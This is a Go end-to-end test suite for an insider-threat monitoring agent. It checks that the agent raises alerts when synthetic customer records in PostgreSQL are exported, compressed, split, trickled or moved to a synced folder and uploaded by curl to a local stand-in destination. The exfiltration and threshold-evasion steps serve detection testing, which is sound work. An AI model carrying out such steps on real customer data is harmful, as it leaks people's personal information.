package e2e

// Variants of the incidents (../shared/INCIDENTS.md) that an insider tries
// once the plain version is caught, acted out like incidents_test.go: local
// accounts with real clients against a real PostgreSQL (TLS) and MariaDB,
// real files and real uploads to addresses added to lo, watched by the real
// agent and judged by the alerts stored at the collector. Each variant is
// one person, so rule groups do not mix. This file holds the rig, the
// exfiltration variants and the benign desktop activity that must raise
// nothing; variants_dump_test.go holds the dumps and the service accounts.

import (
	"crypto/rand"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vigilhq/vigil/collector/store"
	"github.com/vigilhq/vigil/event"
	"github.com/vigilhq/vigil/internal/testdb"
	"github.com/vigilhq/vigil/internal/testkernel"
	"github.com/vigilhq/vigil/internal/testproc"
)

// variantValues are the site's values for the variant suites: the pack's
// defaults except what names this machine. No shift days makes every hour
// outside the shift, as if the suite ran at night, through the rules' own
// shift handling rather than a faked clock.
const variantValues = `values {
  customer_identifier       = "customers.id"
  allowed_destination_cidrs = ["10.231.8.0/24", "127.0.0.0/8", "::1/128"]
  shift_days                = []
}
`

// variantRig is one collector, agent, PostgreSQL and (for the dump suite)
// MariaDB shared by a suite's variants.
type variantRig struct {
	c      *collector
	data   string
	agent  *agentProc
	pg     *testdb.Server
	my     *testdb.Server
	sink   *uploadSink
	n      atomic.Int64
	people map[string]*person
	// outfileDir is where MariaDB may write SELECT ... INTO OUTFILE.
	outfileDir string
}

// customerColumns is the customers table both databases hold.
const customerColumns = "id int PRIMARY KEY, name text, email text, phone text, address text"

// lookupTables are small reference tables a dump sweeps up along with the
// customers.
var lookupTables = []string{"regions", "stores", "products", "suppliers", "carriers", "tax_rates", "promotions", "channels"}

// startVariantRig loads the databases, then starts the collector, the
// people's accounts and the agent; withMariaDB adds a MariaDB server.
func startVariantRig(t *testing.T, people []string, withMariaDB bool) *variantRig {
	t.Helper()
	testkernel.RequireRoot(t)
	requireTools(t, "psql", "curl", "gzip", "split", "ip", "useradd", "setpriv")
	r := &variantRig{people: map[string]*person{}}
	r.pg = testdb.StartPostgres(t, testdb.Options{TLS: true})
	var lookups strings.Builder
	for _, tbl := range lookupTables {
		fmt.Fprintf(&lookups, "CREATE TABLE %[1]s (id int PRIMARY KEY, name text);\n"+
			"INSERT INTO %[1]s SELECT g, '%[1]s ' || g FROM generate_series(1, 40) g;\n"+
			"GRANT SELECT ON %[1]s TO support_agent;\n", tbl)
	}
	out, err := exec.Command("psql", r.pg.DSN, "-X", "-q", "-v", "ON_ERROR_STOP=1", "-c", fmt.Sprintf(`
CREATE TABLE customers (%s);
INSERT INTO customers SELECT g, 'Customer ' || g, 'customer' || g || '@example.com',
  '+44 7700 ' || lpad(g::text, 6, '0'), g || ' High Street, Leeds LS1 ' || (g %% 9) || 'AA'
  FROM generate_series(1, %d) g;
CREATE ROLE support_agent LOGIN;
CREATE ROLE svc_bench LOGIN;
GRANT SELECT ON customers TO support_agent;
GRANT CREATE ON SCHEMA public TO svc_bench;
%s`, customerColumns, customerRows, lookups.String())).CombinedOutput()
	if err != nil {
		t.Fatalf("loading PostgreSQL: %v: %s", err, out)
	}
	ports := []int{r.pg.Port}
	if withMariaDB {
		requireTools(t, "mariadb", "mariadb-dump")
		r.startMariaDB(t)
		ports = append(ports, r.my.Port)
	}
	keyFile, _ := deploymentKey(t)
	rulesDir := testRules(t, variantValues)
	r.data = t.TempDir()
	r.c = startCollector(t, r.data, testproc.FreePort(t), "--rules", rulesDir, "--host-rules", rulesDir)
	// Accounts exist before the agent starts and go after it stops: a uid
	// reused mid-run would keep the old name in the agent's user cache.
	for _, name := range people {
		account := name
		if !strings.HasPrefix(name, "svc_") {
			account = "vigil-e2e-" + name
		}
		r.people[name] = ensurePerson(t, account)
	}
	r.sink = startUploadSink(t, approvedAddr, unknownAddr)
	r.agent = startAgent(t, r.c, r.data, r.c.NATS, agentOpts{site: "leeds", host: "ws-leeds-02", dbPorts: ports,
		rulesDir: rulesDir, keyFile: keyFile, idColumns: []string{"customers.id", "customers.email"}})
	return r
}

// startMariaDB starts MariaDB with the shop database: the customers and
// the lookup tables, readable (and dumpable, and exportable to files) by
// support_agent.
func (r *variantRig) startMariaDB(t *testing.T) {
	t.Helper()
	dir, err := os.MkdirTemp("", "vigil-outfile-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	// The server writes INTO OUTFILE files as its own account.
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	r.outfileDir = dir
	r.my = testdb.StartMariaDB(t, testdb.Options{Settings: map[string]string{"secure-file-priv": dir}})
	var sql strings.Builder
	fmt.Fprintf(&sql, "CREATE DATABASE shop; USE shop;\nCREATE TABLE customers (id int PRIMARY KEY, name varchar(64), email varchar(96), phone varchar(32), address varchar(128));\n"+
		"INSERT INTO customers SELECT seq, concat('Customer ', seq), concat('customer', seq, '@example.com'), "+
		"concat('+44 7700 ', lpad(seq, 6, '0')), concat(seq, ' High Street, Leeds LS1 ', seq %% 9, 'AA') FROM seq_1_to_%d;\n", customerRows)
	for _, tbl := range lookupTables {
		fmt.Fprintf(&sql, "CREATE TABLE %[1]s (id int PRIMARY KEY, name varchar(64));\n"+
			"INSERT INTO %[1]s SELECT seq, concat('%[1]s ', seq) FROM seq_1_to_40;\n", tbl)
	}
	sql.WriteString("CREATE USER 'support_agent'@'%' IDENTIFIED BY 'support';\n" +
		"GRANT SELECT, LOCK TABLES, SHOW VIEW ON shop.* TO 'support_agent'@'%';\n" +
		"GRANT FILE ON *.* TO 'support_agent'@'%';\n")
	out, err := exec.Command("mariadb", "--no-defaults", "--socket="+r.my.Socket, "-uroot", "-e", sql.String()).CombinedOutput()
	if err != nil {
		t.Fatalf("loading MariaDB: %v: %s", err, out)
	}
}

// pgURL is support_agent's connection URL (TLS).
func (r *variantRig) pgURL() string { return pgURL(r.pg.Port, "support_agent", "require") }

// myArgs are the mariadb client's connection arguments for support_agent.
func (r *variantRig) myArgs() []string {
	return []string{"--no-defaults", "-h", "127.0.0.1", "-P", fmt.Sprint(r.my.Port), "--protocol=tcp",
		"-u", "support_agent", "-psupport", "--skip-ssl", "shop"}
}

// barrier runs a marked /bin/true through cmd (a person's or a service's
// command for it) and waits until its process.exec event is stored: the
// agent handles events in order and publishes alerts as the events that
// raise them pass its rules, so every host alert from who's earlier
// actions is stored by then.
func (r *variantRig) barrier(t *testing.T, who string, cmd *exec.Cmd) {
	t.Helper()
	marker := fmt.Sprintf("vigil-e2e-barrier-v%d", r.n.Add(1))
	cmd.Args = append(cmd.Args, marker)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("barrier: %v: %s", err, out)
	}
	cond := fmt.Sprintf("json_extract(body, '$.process.cmdline') LIKE '%%%s%%'", marker)
	testproc.CheckFor(t, 60*time.Second, poll, func() error {
		if storedEvents(t, r.data, r.agent.id, event.KindProcessExec, who, cond) == 0 {
			return fmt.Errorf("barrier %s of %s not stored yet", marker, who)
		}
		return nil
	})
}

// expect waits for p's actions to pass the agent (a barrier), then returns
// the alert of rule about p with its evidence. The barrier bounds the wait:
// an alert not stored shortly after it is one the rules did not raise.
func (r *variantRig) expect(t *testing.T, p *person, rule string) *store.AlertDetail {
	t.Helper()
	r.barrier(t, p.name, p.cmd("/bin/true"))
	err := testproc.Poll(t.Context(), 15*time.Second, poll, func() error {
		if len(r.c.alertsFor(t, rule, p.name)) == 0 {
			return fmt.Errorf("no %s alert about %s", rule, p.name)
		}
		return nil
	})
	if err != nil {
		r.c.dump(t)
		t.Fatal(err)
	}
	a := r.c.awaitAlert(t, rule, p.name)
	t.Logf("%s: %s", rule, a.Event.Alert.Summary)
	return a
}

// quiet checks, after a barrier, that no alert at all is stored about who.
func (r *variantRig) quiet(t *testing.T, who string, cmd *exec.Cmd) {
	t.Helper()
	r.barrier(t, who, cmd)
	for _, a := range r.c.alertsFor(t, "", who) {
		t.Errorf("%s alert about %s: %s", a.Event.Alert.Rule, who, a.Event.Alert.Summary)
	}
}

// export writes the customers (id, name, email, phone, address) to file as
// CSV with psql's \copy, selecting with extra (a WHERE clause, say).
func (r *variantRig) export(t *testing.T, p *person, file, columns, extra string) int64 {
	t.Helper()
	p.run(t, "psql", r.pgURL(), "-X", "-q", "-v", "ON_ERROR_STOP=1",
		"-c", fmt.Sprintf(`\copy (SELECT %s FROM customers %s) TO '%s' CSV`, columns, extra, file))
	fi, err := os.Stat(file)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Size()
}

const allColumns = "id, name, email, phone, address"

// rawBytes finds a byte count written out in digits (seven or more) or a
// number with a long fraction in alert text: people read "3.6 MiB" and
// "22:40", not "3795576" or "22.672h".
var rawBytes = regexp.MustCompile(`\d{7,}|\d\.\d{4,}`)

// pathLike is a path in alert text, left out of the check: a temporary
// folder's name carries long numbers of its own.
var pathLike = regexp.MustCompile(`\S*/\S*`)

func checkReadable(t *testing.T, a *store.AlertDetail) {
	t.Helper()
	s := a.Event.Alert.Summary
	if rawBytes.MatchString(pathLike.ReplaceAllString(s, "")) {
		t.Errorf("%s summary %q prints numbers as no one writes them", a.Event.Alert.Rule, s)
	}
}

// checkSteps checks a read-write-upload alert's evidence: the read, at
// least one write and the upload to dst, all by p.
func checkSteps(t *testing.T, a *store.AlertDetail, p *person, dst string) map[event.Kind][]*event.Event {
	t.Helper()
	by := evidenceOf(t, a, p.name, []event.Kind{event.KindDBQuery, event.KindFileWrite, event.KindFileRename, event.KindNetTransfer},
		event.KindDBQuery, event.KindFileWrite, event.KindNetTransfer)
	for _, ev := range by[event.KindNetTransfer] {
		if ev.Net.DstIP != dst || ev.Net.Loopback {
			t.Errorf("upload evidence %s went to %s (loopback %v), want %s", ev.ID, ev.Net.DstIP, ev.Net.Loopback, dst)
		}
	}
	checkReadable(t, a)
	return by
}

var exfilPeople = []string{"vx-gzip", "vx-slow", "vx-parts", "vx-split", "vx-trickle", "vx-move", "vx-emails", "vx-photos", "vx-dev"}

func TestExfilVariants(t *testing.T) {
	r := startVariantRig(t, exfilPeople, false)
	t.Run("GzipBeforeUpload", r.gzipBeforeUpload)
	t.Run("SlowlyWrittenFile", r.slowlyWrittenFile)
	t.Run("SeveralFiles", r.severalFiles)
	t.Run("SplitUpload", r.splitUpload)
	t.Run("TrickleUpload", r.trickleUpload)
	t.Run("MoveIntoDropbox", r.moveIntoDropbox)
	t.Run("SmallEmailExport", r.smallEmailExport)
	t.Run("BenignPhotoSync", r.benignPhotoSync)
	t.Run("BenignGoBuild", r.benignGoBuild)
}

// The export is compressed before it leaves: the upload is a fraction of
// the file written.
func (r *variantRig) gzipBeforeUpload(t *testing.T) {
	p := r.people["vx-gzip"]
	csv := filepath.Join(p.home, "export.csv")
	size := r.export(t, p, csv, allColumns, "")
	p.run(t, "gzip", csv)
	gz, err := os.Stat(csv + ".gz")
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("export %d bytes, compressed %d", size, gz.Size())
	r.sink.upload(t, p, approvedAddr, csv+".gz")

	a := r.expect(t, p, "bulk_read_write_upload")
	by := checkSteps(t, a, p, approvedAddr)
	var sent uint64
	for _, ev := range by[event.KindNetTransfer] {
		sent += ev.Net.BytesSent
	}
	if int64(sent) < gz.Size() || int64(sent) > size/2 {
		t.Errorf("uploads in the evidence sent %d bytes; want the %d-byte compressed file, well under the %d-byte export", sent, gz.Size(), size)
	}
}

// The export is written slowly, so the agent reports the file in several
// parts (interim reports, then the close) of which none alone is large.
func (r *variantRig) slowlyWrittenFile(t *testing.T) {
	p := r.people["vx-slow"]
	csv := filepath.Join(p.home, "slow-export.csv")
	// The server paces the rows: psql writes the file as they arrive.
	r.export(t, p, csv, allColumns+", pg_sleep(0.0005)", "")
	r.sink.upload(t, p, approvedAddr, csv)

	a := r.expect(t, p, "bulk_read_write_upload")
	checkSteps(t, a, p, approvedAddr)
	cond := fmt.Sprintf("json_extract(body, '$.file.path') = '%s' AND json_extract(body, '$.file.reason') = 'interim'", csv)
	if n := storedEvents(t, r.data, r.agent.id, event.KindFileWrite, p.name, cond); n == 0 {
		t.Errorf("the agent reported %s without interim reports: this variant did not happen", csv)
	}
}

// The export is split into files under a megabyte each, then sent in one
// upload.
func (r *variantRig) severalFiles(t *testing.T) {
	p := r.people["vx-parts"]
	args := []string{"-sS", "--fail", "--noproxy", "*"}
	for i := range 4 {
		part := filepath.Join(p.home, fmt.Sprintf("part-%d.csv", i+1))
		r.export(t, p, part, allColumns, fmt.Sprintf("WHERE id > %d AND id <= %d", i*customerRows/4, (i+1)*customerRows/4))
		args = append(args, "-F", fmt.Sprintf("part%d=@%s", i+1, part))
	}
	out := p.run(t, "curl", append(args, r.sink.urls[approvedAddr])...)
	if !strings.HasPrefix(out, "received ") {
		t.Fatalf("upload answered %q", out)
	}
	a := r.expect(t, p, "bulk_read_write_upload")
	checkSteps(t, a, p, approvedAddr)
}

// The export goes to an unknown destination in pieces, each far under the
// size of an upload.
func (r *variantRig) splitUpload(t *testing.T) {
	p := r.people["vx-split"]
	csv := filepath.Join(p.home, "export.csv")
	size := r.export(t, p, csv, allColumns, "")
	p.run(t, "split", "-b", "256k", csv, filepath.Join(p.home, "piece."))
	pieces, err := filepath.Glob(filepath.Join(p.home, "piece.*"))
	if err != nil || len(pieces) < 10 {
		t.Fatalf("split made %d pieces: %v", len(pieces), err)
	}
	for _, piece := range pieces {
		r.sink.upload(t, p, unknownAddr, piece)
	}
	a := r.expect(t, p, "upload_unapproved_destination")
	if a.Event.Alert.Value < float64(1<<20) || a.Event.Alert.Value > float64(size+64<<10) {
		t.Errorf("upload_unapproved_destination value %v, want the pieces' bytes up to the %d-byte export", a.Event.Alert.Value, size)
	}
	by := evidenceOf(t, a, p.name, []event.Kind{event.KindNetTransfer}, event.KindNetTransfer)
	if len(by[event.KindNetTransfer]) < 2 {
		t.Errorf("upload_unapproved_destination cites %d transfers, want the pieces", len(by[event.KindNetTransfer]))
	}
	for _, ev := range by[event.KindNetTransfer] {
		if ev.Net.DstIP != unknownAddr || ev.Net.BytesSent > 300<<10 {
			t.Errorf("evidence %s: %d bytes to %s, want a piece to %s", ev.ID, ev.Net.BytesSent, ev.Net.DstIP, unknownAddr)
		}
	}
	checkReadable(t, a)
	checkSteps(t, r.expect(t, p, "bulk_read_write_upload"), p, unknownAddr)
}

// The names and addresses leave slowly over one connection, which the
// agent reports in interim parts of which none alone is an upload.
func (r *variantRig) trickleUpload(t *testing.T) {
	p := r.people["vx-trickle"]
	out := filepath.Join(p.home, "contacts.txt")
	p.run(t, "psql", r.pgURL(), "-X", "-q", "-A", "-t", "-c", "SELECT name, email FROM customers", "-o", out)
	p.run(t, "curl", "-sS", "--fail", "--noproxy", "*", "--limit-rate", "64k", "--data-binary", "@"+out, r.sink.urls[unknownAddr])

	a := r.expect(t, p, "upload_unapproved_destination")
	by := evidenceOf(t, a, p.name, []event.Kind{event.KindNetTransfer}, event.KindNetTransfer)
	interim := 0
	for _, ev := range by[event.KindNetTransfer] {
		if ev.Net.Reason == "interim" {
			interim++
		}
		if ev.Net.BytesSent >= 1<<20 {
			t.Errorf("evidence %s sent %d bytes in one report: this variant did not happen", ev.ID, ev.Net.BytesSent)
		}
	}
	if interim == 0 {
		t.Errorf("no interim report among the evidence: this variant did not happen")
	}
	checkReadable(t, a)
}

// A large file is moved, not copied, into a synced folder: a rename, no
// bytes written there.
func (r *variantRig) moveIntoDropbox(t *testing.T) {
	p := r.people["vx-move"]
	src := filepath.Join(t.TempDir(), "customers.csv")
	if err := os.WriteFile(src, make([]byte, 12<<20), 0o644); err != nil {
		t.Fatal(err)
	}
	staged := filepath.Join(p.home, "customers.csv")
	p.run(t, "cp", src, staged)
	dropbox := filepath.Join(p.home, "Dropbox")
	if err := os.MkdirAll(dropbox, 0o755); err != nil {
		t.Fatal(err)
	}
	p.run(t, "mv", staged, dropbox+"/")

	a := r.expect(t, p, "removable_or_cloud_move")
	by := evidenceOf(t, a, p.name, []event.Kind{event.KindFileWrite, event.KindFileRename}, event.KindFileWrite, event.KindFileRename)
	for _, ev := range by[event.KindFileRename] {
		if ev.File.OldPath != staged || ev.File.Path != filepath.Join(dropbox, "customers.csv") {
			t.Errorf("rename evidence %s: %s -> %s", ev.ID, ev.File.OldPath, ev.File.Path)
		}
	}
	if !strings.Contains(a.Event.Alert.Summary, "12 MiB") {
		t.Errorf("summary %q does not say how much was moved (12 MiB)", a.Event.Alert.Summary)
	}
	checkReadable(t, a)
}

// A few thousand addresses: far under a megabyte in the file and on the
// wire, so only the rows say what left.
func (r *variantRig) smallEmailExport(t *testing.T) {
	p := r.people["vx-emails"]
	out := filepath.Join(p.home, "emails.txt")
	p.run(t, "psql", r.pgURL(), "-X", "-q", "-A", "-t", "-c", "SELECT email FROM customers WHERE id <= 3000", "-o", out)
	r.sink.upload(t, p, unknownAddr, out)

	a := r.expect(t, p, "bulk_read_write_upload")
	by := checkSteps(t, a, p, unknownAddr)
	for _, ev := range by[event.KindDBQuery] {
		if ev.DB.Rows != 3000 {
			t.Errorf("read step %s returned %d rows, want 3000", ev.ID, ev.DB.Rows)
		}
	}
}

// A desktop user copies a camera's photos into a synced folder, as a sync
// client would: written in a cache folder, then renamed into place.
func (r *variantRig) benignPhotoSync(t *testing.T) {
	p := r.people["vx-photos"]
	camera := filepath.Join(t.TempDir(), "DCIM")
	if err := os.MkdirAll(camera, 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range 40 {
		photo := make([]byte, 512<<10)
		rand.Read(photo)
		if err := os.WriteFile(filepath.Join(camera, fmt.Sprintf("IMG_%04d.JPG", i+1)), photo, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	album := filepath.Join(p.home, "Dropbox", "Photos", "Holiday")
	cache := filepath.Join(p.home, "Dropbox", ".dropbox.cache")
	for _, d := range []string{album, cache} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p.run(t, "sh", "-c", fmt.Sprintf(`set -e
cp "%[1]s"/IMG_000*.JPG "%[2]s"/
for f in "%[1]s"/IMG_00[1-9]*.JPG; do
  cp "$f" "%[3]s/sync.tmp"
  mv "%[3]s/sync.tmp" "%[2]s/$(basename "$f")"
done`, camera, album, cache))
	if n, _ := filepath.Glob(filepath.Join(album, "*.JPG")); len(n) != 40 {
		t.Fatalf("%d photos in the album, want 40", len(n))
	}
	r.quiet(t, p.name, p.cmd("/bin/true"))
}

// A developer builds a large Go project from scratch: thousands of files
// written in the build cache, temporary folders renamed, no data read.
func (r *variantRig) benignGoBuild(t *testing.T) {
	p := r.people["vx-dev"]
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go is not on PATH")
	}
	modcache, err := exec.Command(goBin, "env", "GOMODCACHE").Output()
	if err != nil {
		t.Fatal(err)
	}
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	cmd := p.cmd(goBin, "build", "-o", filepath.Join(p.home, "bin")+"/", "./cmd/vigil")
	cmd.Dir = root
	cmd.Env = append(cmd.Env, "GOCACHE="+filepath.Join(p.home, ".cache", "go-build"), "GOMODCACHE="+strings.TrimSpace(string(modcache)),
		"GOPROXY=off", "GOFLAGS=-mod=readonly", "GOTOOLCHAIN=local")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, testproc.Tail(string(out), 2000))
	}
	cached, _ := filepath.Glob(filepath.Join(p.home, ".cache", "go-build", "*", "*"))
	if len(cached) < 500 {
		t.Fatalf("%d files in the build cache: not a large build", len(cached))
	}
	t.Logf("the build wrote %d cache entries", len(cached))
	r.quiet(t, p.name, p.cmd("/bin/true"))
}
